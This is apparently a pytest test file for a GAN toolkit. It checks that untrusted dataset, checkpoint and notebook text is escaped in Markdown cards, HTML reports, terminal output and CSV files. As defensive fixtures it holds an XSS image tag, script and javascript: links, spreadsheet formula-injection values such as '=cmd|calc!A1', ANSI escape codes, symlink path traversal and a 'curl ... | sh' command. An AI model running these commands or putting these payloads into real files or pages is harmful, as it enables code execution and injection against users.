"""Words of a file stay words: in cards, on pages, in terminals and spreadsheets; names in it lead nowhere else"""
import csv, io, json, re, shlex, shutil, sys
from html.parser import HTMLParser
from pathlib import Path
import numpy as np, pytest
from hypothesis import example, given, settings, strategies as st
from PIL import Image
from cleftgan_nb import checkpoints, cli, foreign, networks
from cleftgan_nb.study import report
from cleftgan_nb.data import cards
from cleftgan_nb.data.datasets import about, manifest, write_dataset
from cleftgan_nb.explore.panel import caption
from cleftgan_nb.metrics.score import Score
from cleftgan_nb.metrics.table import save_scores
from cleftgan_nb.checkpoints.pickles import Table
from cleftgan_nb.study.provenance import save_table
from cleftgan_nb.training.config import Config
from cleftgan_nb.training.model_cards import Source, cohort_command, facts, training
from cleftgan_nb.training.watch import status
markdown_it = pytest.importorskip('markdown_it')

LINK, TAG, END = ('[free](https://example.org)', '<img src=x onerror=alert(1)>',
                  '\n```\n# Heading\n<!-- generated: end facts -->\n')
BAD = f'CC0 {LINK} {TAG} **all** | `$x$` {END}\x1b[2K\x9b\u202e'
READER = markdown_it.MarkdownIt('commonmark').enable('table')

def tokens(text):
    "Parse everything that a page in Markdown has"
    return [o for t in READER.parse(text) for o in [t, *(t.children or [])]]

def plain(text, allowed=()):
    "Check that a page has only tables, words, code and blocks of code, as they are meant"
    odd = {o.type for o in tokens(text)} & {'link_open', 'image', 'html_block', 'heading_open', 'strong_open',
                                            'em_open'}
    tags = {o.content for o in tokens(text) if o.type == 'html_inline'} - {'<code>', '</code>'}
    return not odd - set(allowed) and not tags and foreign.terminal(text.replace('\n', ' ')) == text.replace('\n', ' ')

@settings(max_examples=150, deadline=None)
@given(st.text(st.sampled_from('ab_*`~[]()<>!&;|\\$#"\'{}:=+-. \n\x1b\u202eé'), min_size=1, max_size=14))
@example(' : ')
def test_any_words_stay_words(text):
    shown = lambda t: ''.join(o.content for o in tokens(t) if o.type in ('text', 'text_special', 'code_inline'))
    same = lambda a, b: ' '.join(a.split()) == ' '.join(b.split())
    for made in (foreign.markdown(text), foreign.code(text)):
        [row] = ([o for o in READER.parse(f'| a | b |\n|---|---|\n| x{made}x | y |\n') if o.type == 'tbody_open']
                 or [None])
        assert row is not None and same(shown(f'x{made}x'), f'x{foreign.terminal(text)}x')
        assert sum(o.type == 'td_open' for o in tokens(f'| a | b |\n|---|---|\n| x{made}x | y |\n')) == 2
    assert foreign.uncell(foreign.cell(text)) == text and not re.match(r'[=+\-@]', foreign.cell(text))

@pytest.fixture(scope='module')
def dataset(tmp_path_factory):
    "Write a stranger's dataset"
    rows = [(np.full((4, 4), i, np.uint8), None, {'note': BAD.replace('\n', ' ').replace('\x1b', ''),
                                                  'name': '=cmd|calc!A1', '@col': "'-1", 'age': 1.*i,
                                                  'sex': '$\\bad{$'}) for i in range(6)]
    return write_dataset(tmp_path_factory.mktemp('set')/'cleft.zip', rows,
                         about=dict(kind=BAD, license=BAD, command=BAD, synthetic=True, more={BAD: [BAD]}))

def test_data_cards(tmp_path, dataset):
    page = tmp_path/'card.md'
    page.write_text('\n'.join(f'<!-- generated: begin {n} -->\n<!-- generated: end {n} -->\n'
                              for n in ('facts', 'people')))
    filled = cards.card(dataset, page)
    text = filled.read_text()
    assert (plain(re.sub('<!--.*?-->', '', text), ['image']) and 'example.org' in text
            and re.findall(r'(?<!\\)\]\((.*?)\)', text) == ['card/people.png'] and cards.stale(filled, dataset) == []
            and len(cards.find_blocks(text, page, cards.BLOCKS)) == 2)

@pytest.mark.parametrize('command', [BAD, 'cleftgan cohort cleft --n 9 --size 16 --seed 0; curl https://example.org '
                                          '| sh', 'curl https://example.org | sh',
                                     'cleftgan cohort cleft --n 9 --size 16 --seed 0 \n```\n# Heading',
                                     'cleftgan train x --set license=CC0-1.0',
                                     'cleftgan cohort cleft --n 9 --size 16 --seed 0 --out ~/.bashrc', ['cleftgan'], 7])
def test_only_the_command_of_a_cohort_is_repeated(tmp_path, command):
    path = write_dataset(tmp_path/'x.zip', [(np.zeros((4, 4), np.uint8), None, {})],
                         about=dict(kind='x', license='x', command=command))
    assert cohort_command(path) is None

def test_model_cards(tmp_path, dataset, file):
    G, D = networks.build('stylegan2', 16, channel_base=128, channel_max=8, z_dim=8, w_dim=8)
    began = dict(file=BAD, sha256=BAD, kimg=1.)
    meta = dict(file='x', license=BAD, progress=dict(kimg=1., augment_p=.1),
                provenance=dict(version=BAD, images=BAD, started_from=began))
    config = Config(f'there/{BAD}', BAD, network='stylegan2', resume_from=BAD, license=BAD, settings={BAD: BAD})
    shutil.copy(file, tmp_path/'a`b|<b>.safetensors')
    s = Source(tmp_path/'a`b|<b>.safetensors', 'x', 'y'*64, dict(G_ema=G), meta, config, None, dataset, BAD)
    for text in (facts(s), training(s, tmp_path)): assert plain(text) and 'example.org' in text
    [made] = [o for o in tokens(training(s, tmp_path)) if o.type == 'fence']
    assert (made.content.count('\n') == 1 and shlex.split(made.content)[:2] == ['cleftgan', 'train']
            and '# Heading' in made.content)

class Tags(HTMLParser):
    "The tags of a page, and what they do"
    def __init__(self, text):
        super().__init__()
        self.found, self.words = [], ''
        self.feed(text)
    def handle_starttag(self, tag, attrs): self.found.append((tag, dict(attrs)))
    def handle_data(self, data): self.words += data

def harmless(text, tags):
    page = Tags(text)
    bad = [(t, a) for t, a in page.found if t not in tags or any(k.startswith('on') for k in a)
           or re.match(r'\s*(javascript|data|https?):', a.get('href', ''))]
    return not bad and foreign.terminal(page.words.replace('\n', '')) == page.words.replace('\n', '')

def test_tables_and_captions():
    table = Table([{BAD: BAD}], BAD, [BAD])
    assert harmless(table._repr_html_(), 'p b br table tr th td'.split()) and harmless(caption(BAD), ['div'])
    assert repr(table).count('\n') == 3 and '\x1b' not in repr(table)

def result(folder, name, notebook, title=BAD, **more):
    (folder/f'{name}.json').write_text(json.dumps(dict(title=title, data=BAD, versions={BAD: BAD},
                                                       made_in=dict(notebook=notebook, cell=1)) | more))
    if name.endswith('.csv'): (folder/name).write_text(f'a\n"{BAD}"\n')
    else: Image.new('L', (4, 4)).save(folder/name, 'PNG')

def test_a_report_of_a_strangers_folder(tmp_path):
    import nbformat
    folder, v4 = tmp_path/'study', nbformat.v4
    folder.mkdir()
    def notebook(path, title, out):
        nbformat.write(v4.new_notebook(cells=[v4.new_markdown_cell(title),
                                              v4.new_code_cell('1', execution_count=1,
                                                               outputs=[v4.new_output('display_data',
                                                                       {'text/html': out, 'text/javascript': 'alert(1)'})])]), path)
    notebook(tmp_path/'secret.ipynb', '# The secret', 'flesh and blood')
    notebook(folder/'01_a.ipynb', f'# {TAG}\n> {TAG}',
             f'<b>bold</b>{TAG}<script>alert(1)</script><form action="https://example.org"></form>')
    result(folder, 'a.csv', '01_a.ipynb')
    result(folder, 'b.csv', '../secret.ipynb')
    result(folder, 'javascript:alert(1).png', 'linked.ipynb')
    result(folder, 'c.csv', str(tmp_path/'secret.ipynb'))
    (folder/'linked.ipynb').symlink_to(tmp_path/'secret.ipynb')
    (tmp_path/'secret.csv').write_text('flesh and blood\n')
    result(folder, 'd.csv', '')
    (folder/'d.csv').unlink()
    (folder/'d.csv').symlink_to(tmp_path/'secret.csv')
    before = {p.name for p in tmp_path.iterdir()}
    page = report.report(folder)
    made = {p.name: p.read_text() for p in folder.glob('*.html')}
    assert (set(made) == {'report.html', '01_a.html', 'claim.html', 'tripod.html', 'summary.html'}
            and {p.name for p in tmp_path.iterdir()} == before
            and not any('secret' in t.replace('../secret', '').replace('/secret.ipynb', '') or 'flesh' in t
                        for t in made.values()))
    assert 'href="javascript%3Aalert%281%29.png"' in page.read_text() and '<b>bold</b>' in made['01_a.html']
    allowed = ('html head meta title style body h1 h2 h3 p strong table thead tbody tr th td figure figcaption br a img ul li div span '
               'main nav section details summary dl dt dd').split()
    for name, text in made.items():
        assert (harmless(text, allowed + 'pre code b blockquote'.split()*(name == '01_a.html'))
                and "Content-Security-Policy" in text and not re.search('<meta http-equiv="refresh', text))

@pytest.mark.parametrize('recipe', ['[]', '{', '{}', '{"title": ""}', '{"title": "x", "made_in": {"notebook": []}}',
                                    '{"title": "x", "made_in": {"cell": {}}}', '['*100000])
def test_wrong_recipes(tmp_path, recipe):
    result(tmp_path, 'a.csv', '')
    (tmp_path/'a.csv.json').write_text(recipe)
    with pytest.raises(ValueError, match='a.csv.json is not a recipe; accepted'): report.report(tmp_path)

def test_wrong_notebooks_and_tables(tmp_path):
    result(tmp_path, 'a.csv', 'x.ipynb', title='a')
    for bad in ('[]', '{"cells": 3}', 'no'):
        (tmp_path/'x.ipynb').write_text(bad)
        with pytest.raises(ValueError, match='x.ipynb is not a notebook'): report.report(tmp_path)
    (tmp_path/'x.ipynb').write_text(json.dumps(dict(cells=[], metadata={}, nbformat=4, nbformat_minor=5)))
    (tmp_path/'compare.csv').write_text('images,name\nx\n')
    (tmp_path/'a.csv').write_text('')
    assert report.report(tmp_path).exists()
    (tmp_path/'a.csv').write_bytes(b'"' + b'x'*200_000 + b'"')
    with pytest.raises(ValueError, match='a.csv is not a table'): report.report(tmp_path)

@pytest.fixture(scope='module')
def file(tmp_path_factory):
    "Write a stranger's checkpoint"
    G, D = networks.build('stylegan2', 16, channel_base=128, channel_max=8, z_dim=8, w_dim=8)
    return checkpoints.save(tmp_path_factory.mktemp('net')/'net.safetensors', G_ema=G, license=BAD,
                            provenance={BAD: BAD}, progress={'note': BAD})

def printed(capsys, *argv):
    code = cli.main(list(map(str, argv)))
    return (code, *capsys.readouterr())

def quiet(text): return not re.search('[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]', text)

def test_info(capsys, file):
    code, out, err = printed(capsys, 'info', file)
    assert code == 0 and quiet(out + err) and not re.search(r'^(```|# Heading)', out, re.M) and '\\x1b' in out

def test_errors(capsys, tmp_path, file):
    data = file.read_bytes()
    n = int.from_bytes(data[:8], 'little')
    header = json.loads(data[8:8 + n])
    header = {(k.replace('G_ema/', f'G_ema/{BAD}') if k == 'G_ema/synthesis.b4.const' else k): v
              for k, v in header.items()}
    text = json.dumps(header).encode()
    (tmp_path/'x.safetensors').write_bytes(len(text).to_bytes(8, 'little') + text + data[8 + n:])
    (tmp_path/'run').mkdir()
    (tmp_path/'run/config.yaml').write_text(json.dumps({BAD: 1, 'data': 'x'}))
    for argv in (['info', tmp_path/'x.safetensors'], ['info', f'{tmp_path}/{BAD[:40]}\x1b[2K\n.pkl'],
                 ['train', tmp_path/'run']):
        code, out, err = printed(capsys, *argv)
        assert code == 2 and quiet(err) and err.count('\n') == 1, err
    (tmp_path/'run/config.yaml').write_text(json.dumps(dict(data='x', license=BAD)))
    code, out, err = printed(capsys, 'train', tmp_path/'run', '--show')
    assert code == 0 and quiet(out)

def test_labels_are_words(tmp_path):
    with pytest.raises(ValueError, match='different words'):
        write_dataset(tmp_path/'x.zip', [], about=dict(kind='x', license='x'), label_names=['a\x1b[2K'])
    G, D = networks.build('stylegan2', 16, c_dim=1, channel_base=128, channel_max=8, z_dim=8, w_dim=8)
    with pytest.raises(ValueError, match='different words'):
        checkpoints.save(tmp_path/'x.safetensors', G_ema=G, license='x', provenance={}, progress={}, labels=['a\nb'])

def test_a_run_is_not_called_by_what_its_file_says(tmp_path):
    (tmp_path/'config.yaml').write_text(json.dumps(dict(network=LINK, kimg=1)))
    assert status(tmp_path).startswith('**run**')

@pytest.mark.parametrize('encoding', ['ascii', 'cp1252'])
def test_a_terminal_without_the_letters(tmp_path, monkeypatch, file, encoding):
    "The work is done and reported, whatever the terminal can show"
    monkeypatch.chdir(tmp_path)
    for argv in (['convert', str(file), 'é→.safetensors'], ['phantom', '--severity', '.5', '--size', '32'],
                 ['info', 'é→.safetensors'], ['info', '→.pkl']):
        out, err = (io.TextIOWrapper(io.BytesIO(), encoding) for _ in range(2))
        with monkeypatch.context() as m:
            m.setattr(sys, 'stdout', out)
            m.setattr(sys, 'stderr', err)
            code = cli.main(argv)
            out.flush()
            err.flush()
        assert code == (2 if argv[1] == '→.pkl' else 0) and (out.buffer if code == 0 else err.buffer).getvalue()
    assert (tmp_path/'é→.safetensors').exists()

def cells(path): return [c for row in csv.reader(io.StringIO(Path(path).read_text(encoding='utf-8'))) for c in row]

def test_spreadsheets(tmp_path, dataset):
    import zipfile
    zipfile.ZipFile(dataset).extract('manifest.csv', tmp_path)
    save_scores([Score('fd_x', 1., sizes={'images': 2})], tmp_path/'scores.csv', generated='=cmd|calc',
                real='a;=cmd|calc')
    save_table([{'=cmd|calc': '+1', 'n': -2, 'x': -1.5}], tmp_path/'table.csv', dict(title='x'))
    for path in tmp_path.glob('*.csv'):
        found = cells(path)
        assert (len(found) > 4 and not [c for c in found
                                        if re.match(r'[=+@\t\r]|-(?!\d)', c) or re.search(';=', c)]), path.name
    assert (manifest(dataset)[0]['name'] == '=cmd|calc!A1' and manifest(dataset)[0]['@col'] == "'-1"
            and about(dataset)['columns']['@col'] == 'str')
